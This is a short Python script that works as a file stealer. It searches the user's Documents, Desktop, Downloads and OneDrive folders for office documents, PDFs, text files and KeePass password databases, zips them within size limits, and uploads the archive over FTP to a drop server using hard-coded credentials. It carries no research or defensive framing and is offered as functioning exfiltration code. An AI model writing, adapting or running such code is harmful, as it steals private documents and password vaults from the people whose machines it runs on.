import ftplib
import io
import os
import socket
import time
import zipfile

FTP_HOST = "ftp.files.example"
FTP_USER, FTP_PASS = "drop", "FakeDrop#2024"
EXTS = (".doc", ".docx", ".xls", ".xlsx", ".pdf", ".ppt", ".pptx", ".kdbx", ".txt", ".rtf")
LIMIT = 15 * 1024 * 1024
roots = [os.path.join(os.path.expanduser("~"), d) for d in ("Documents", "Desktop", "Downloads", "OneDrive")]

buf = io.BytesIO()
total = 0
with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
    for root in roots:
        for dp, _, files in os.walk(root):
            for n in files:
                p = os.path.join(dp, n)
                if not n.lower().endswith(EXTS):
                    continue
                try:
                    size = os.path.getsize(p)
                except OSError:
                    continue
                if size > 5 * 1024 * 1024 or total + size > LIMIT:
                    continue
                try:
                    z.write(p, os.path.relpath(p, os.path.expanduser("~")))
                    total += size
                except OSError:
                    pass
buf.seek(0)
name = f"{socket.gethostname()}_{int(time.time())}.zip"
with ftplib.FTP(FTP_HOST, timeout=30) as ftp:
    ftp.login(FTP_USER, FTP_PASS)
    ftp.cwd("/in")
    ftp.storbinary(f"STOR {name}", buf)
